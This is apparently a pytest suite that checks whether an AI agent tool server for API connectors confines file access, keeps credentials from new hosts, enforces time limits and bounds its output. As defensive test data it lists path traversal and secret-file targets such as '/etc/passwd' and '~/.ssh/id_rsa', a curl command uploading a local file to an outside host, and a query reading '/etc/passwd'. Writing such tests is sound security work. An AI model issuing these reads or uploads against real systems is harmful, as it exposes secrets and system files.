"""What an agent cannot reach: files elsewhere, hosts elsewhere, a server that never answers."""

from __future__ import annotations

import json
import threading
from pathlib import Path

import anyio
import pytest

from tests.agent_tools.conftest import TOKEN, shop_body
from tests.support.agent import Agent, agent
from tests.support.run_verbs import Json, write_connector
from tests.support.servers.web import Answer, Web

KEYS = {"SOURCES__SHOP__TOKEN": TOKEN}
PRIVATE = "a-private-text"
ELSEWHERE = [
    "../outside.yaml",
    "../outside.txt",
    "connectors/../../outside.yaml",
    "/etc/passwd",
    "..\\outside.yaml",
    "C:\\Windows\\win.ini",
    "file:///etc/passwd",
    "~/.ssh/id_rsa",
    ".dlt/secrets.toml",
    "./.dlt/secrets.toml",
    ".git/config",
    ".env",
    "linked.txt",
    "connectors/linked.yaml",
    "up/outside.yaml",
    "bundled:../../../etc/passwd",
]


@pytest.fixture
def fenced(workplace: Path) -> Path:
    """A project with private files around it, hidden in it, and links to both."""
    for name in ("outside.yaml", "outside.txt"):
        (workplace.parent / name).write_text(f"text: {PRIVATE}\n", "utf-8")
    for name in (".dlt/secrets.toml", ".git/config", ".env"):
        (workplace / name).parent.mkdir(exist_ok=True)
        (workplace / name).write_text(f"text = '{PRIVATE}'\n", "utf-8")
    (workplace / "linked.txt").symlink_to(workplace.parent / "outside.txt")
    (workplace / "connectors" / "linked.yaml").symlink_to(workplace.parent / "outside.yaml")
    (workplace / "up").symlink_to(workplace.parent)
    return workplace


@pytest.mark.parametrize("options", [(), ("--allow-write",)], ids=["reading", "writing"])
def test_files_elsewhere_are_out_of_reach(fenced: Path, options: tuple[str, ...]) -> None:
    with agent(fenced, *options) as one:
        for name in ELSEWHERE:
            one.error("read_file", file=name)
            one.error("write_connector", file=name, text="x: 1")
            one.error("import", kind="openapi", name="made", file=name)
            one.error("import", kind="curl", name="made", text=f"curl https://x.example -d @{name}")
            for tool in ("validate", "show", "check", "mock", "record"):
                one.error(tool, connector=name)
            one.result("test", connectors=[name])
        assert "linked" not in [each["name"] for each in _listed(one)]
        assert PRIVATE not in one.everything
        assert "root:" not in one.everything
    assert not (fenced / "connectors" / "made.yaml").exists()
    assert (fenced.parent / "outside.yaml").read_text("utf-8") == f"text: {PRIVATE}\n"


def test_a_description_refers_to_no_file_elsewhere(fenced: Path) -> None:
    for number, target in enumerate(["../outside.yaml", ".env", "up/outside.yaml", "/etc/passwd"]):
        answer = {"description": "", "content": {"application/json": {"schema": {"$ref": target}}}}
        paths = {"/orders": {"get": {"responses": {"200": answer}}}}
        info = {"title": "x", "version": "1"}
        text = json.dumps({"openapi": "3.1.0", "info": info, "paths": paths})
        (fenced / f"given{number}.json").write_text(text, "utf-8")
    with agent(fenced, "--allow-write") as one:
        for number in range(4):
            for given in ({"file": f"given{number}.json"}, {"text": text}):
                one.result("import", kind="openapi", name="made", replace=True, **given)
        assert PRIVATE not in one.everything
        assert "root:" not in one.everything


def test_a_file_of_values_is_not_read_elsewhere(fenced: Path) -> None:
    (fenced.parent / "outside.csv").write_text(f"id\n{PRIVATE}\n", "utf-8")
    (fenced / ".dlt" / "hidden.csv").write_text(f"id\n{PRIVATE}\n", "utf-8")
    (fenced / "linked.csv").symlink_to(fenced.parent / "outside.csv")
    with agent(fenced, "--allow-write") as one:
        for name in ("../outside.csv", ".dlt/hidden.csv", "linked.csv", "/etc/passwd"):
            body = shop_body("https://api.example.com")
            one_resource = body["resources"][0]
            one_resource["partitions"] = [{"name": "at", "file": {"path": name, "field": "id"}}]
            one_resource["endpoint"]["params"] = {"at": "{partition.at}"}
            write_connector(fenced, body)
            one.error("mock", connector="shop", invented=True)
            assert "errors" not in one.error("show", connector="shop")
            one.result("preview", connector="shop", resource="orders", source="mock")
        assert PRIVATE not in one.everything


def _listed(one: Agent) -> list[Json]:
    return one.call("list_connectors")["connectors"]


def test_credentials_go_to_no_new_host(workplace: Path, shop_api: Web) -> None:
    write_connector(workplace, shop_body(shop_api.url))
    with Web() as elsewhere, agent(workplace, "--allow-write", **KEYS) as one:
        elsewhere.on("/orders", {"orders": []})
        read = one.call("read_file", file="shop")
        text = read["text"].replace(shop_api.url, elsewhere.url)
        one.call("write_connector", file="shop", text=text, revision=read["revision"])
        for tool in ("check", "record"):
            one.result(tool, connector="shop")
        told = one.error("preview", connector="shop", resource="orders")
        assert f"--allow-host 127.0.0.1:{elsewhere.port}" in told
        one.error("preview", connector="shop", resource="orders", raw=True)
        new = text.replace("name: shop", "name: fresh")
        one.call("write_connector", file="fresh", text=new)
        one.result("check", connector="fresh", config={"token": "x"})
        assert elsewhere.asked == []


def test_a_query_of_the_destination_is_not_run(workplace: Path, shop_api: Web) -> None:
    body = shop_body(shop_api.url)
    (workplace / "private.csv").write_text(f"id\n{PRIVATE}\n", "utf-8")
    query = "select content from read_text('/etc/passwd')"
    body["resources"][0]["partitions"] = [{"name": "at", "query": query}]
    body["resources"][0]["endpoint"]["params"] = {"at": "{partition.at}"}
    write_connector(workplace, body)
    with agent(workplace, "--allow-write", **KEYS) as one:
        told = one.error("preview", connector="shop", resource="orders")
        assert "query" in told
        one.error("record", connector="shop")
    assert shop_api.asked == []


def test_a_server_that_hangs_does_not_hang_the_agent(workplace: Path, shop_api: Web) -> None:
    release = threading.Event()
    write_connector(workplace, shop_body(shop_api.url))
    shop_api.on("/orders", lambda _: release.wait(60) and Answer(200, {}))
    with agent(workplace, **KEYS) as one:
        told = one.error("preview", connector="shop", resource="orders", time_limit=1)
        assert "1 s" in told
        assert one.call("validate")["errors"] == 0
        release.set()
        shop_api.on("/orders", {"orders": [{"id": 1}], "pages": 1})
        seen = one.call("preview", connector="shop", resource="orders")
        assert seen["records"] == [{"id": 1}]


def test_a_long_wait_ends_at_the_limit(workplace: Path, shop_api: Web) -> None:
    body = shop_body(shop_api.url)
    body["client"]["retry"] = {"max_retries": 5}
    write_connector(workplace, body)
    shop_api.on("/orders", Answer(503, {}, {"Retry-After": "200"}))
    with agent(workplace, "--allow-write", **KEYS) as one:
        for tool in ("check", "record"):
            assert "1 s" in one.error(tool, connector="shop", time_limit=1)
    assert not (workplace / "cassettes").exists()


def test_a_call_that_is_cancelled_stops_its_run(workplace: Path, shop_api: Web) -> None:
    asked, release = threading.Event(), threading.Event()

    def hang(_: object) -> Answer:
        asked.set()
        release.wait(60)
        return Answer(200, {"orders": [], "pages": 9})

    write_connector(workplace, shop_body(shop_api.url))
    shop_api.on("/orders", hang)
    with agent(workplace, **KEYS) as one:

        async def call_and_cancel() -> None:
            async with anyio.create_task_group() as group:
                arguments = {"connector": "shop", "resource": "orders"}
                group.start_soon(one.client.call_tool, "preview", arguments)
                await anyio.to_thread.run_sync(asked.wait, 60)
                group.cancel_scope.cancel()

        one.wait_for(call_and_cancel)
        release.set()
        shop_api.on("/orders", {"orders": [{"id": 1}], "pages": 1})
        assert one.call("preview", connector="shop", resource="orders")["records"] == [{"id": 1}]


def test_the_process_ends_with_its_client(workplace: Path, shop_api: Web) -> None:
    asked, release = threading.Event(), threading.Event()
    shop_api.on("/orders", lambda _: asked.set() or (release.wait(60) and Answer(200, {})))
    write_connector(workplace, shop_body(shop_api.url))
    with agent(workplace, **KEYS) as one:

        async def leave() -> None:
            async with anyio.create_task_group() as group:
                arguments = {"connector": "shop", "resource": "orders"}
                group.start_soon(one.client.call_tool, "preview", arguments)
                await anyio.to_thread.run_sync(asked.wait, 60)
                group.cancel_scope.cancel()

        one.wait_for(leave)
    release.set()
    assert one.log == ""


def test_answers_are_bounded_and_say_what_was_cut(workplace: Path, shop_api: Web) -> None:
    many = [{"id": number, "text": "x" * 9_000} for number in range(100)]
    shop_api.on("/orders", {"orders": many, "pages": 1})
    write_connector(workplace, shop_body(shop_api.url))
    (workplace / "long.txt").write_text("a line of text\n" * 20_000, "utf-8")
    with agent(workplace, **KEYS) as one:
        seen = one.call("preview", connector="shop", resource="orders", limit=100)
        assert len(seen["records"]) < 100
        assert "records" in seen["cut"]
        raw = one.call("preview", connector="shop", resource="orders", raw=True)
        assert raw["raw"]["bytes"] > 900_000
        read = one.call("read_file", file="long.txt")
        assert (read["first_line"], read["lines"]) == (1, 20_000)
        assert "401" in read["cut"]
        end = one.call("read_file", file="long.txt", first_line=19_999)
        assert end["text"] == "a line of text\n" * 2
        assert max(map(len, one.answers)) < 200_000


def test_what_is_wrong_is_an_error_with_a_remedy(workplace: Path, shop_api: Web) -> None:
    write_connector(workplace, shop_body(shop_api.url))
    (workplace / "connectors" / "bad.yaml").write_text("name: [", "utf-8")
    with agent(workplace) as one:
        assert "did you mean shop" in one.error("show", connector="shob")
        assert "SOURCES__SHOP__TOKEN" in one.error("preview", connector="shop", resource="orders")
        assert "did you mean orders" in one.error("preview", connector="shop", resource="order")
        assert "1 error" in one.error("show", connector="bad")
        assert "cassette" in one.error("check", connector="shop", source="recording")
        assert "did you mean" in one.error("reference", topic="paginator_cursr")
        assert "faults" in one.error("mock", connector="shop", faults="often", invented=True)
        assert "source" in one.error("check", connector="shop", source="elsewhere")
        assert str(workplace) not in one.everything
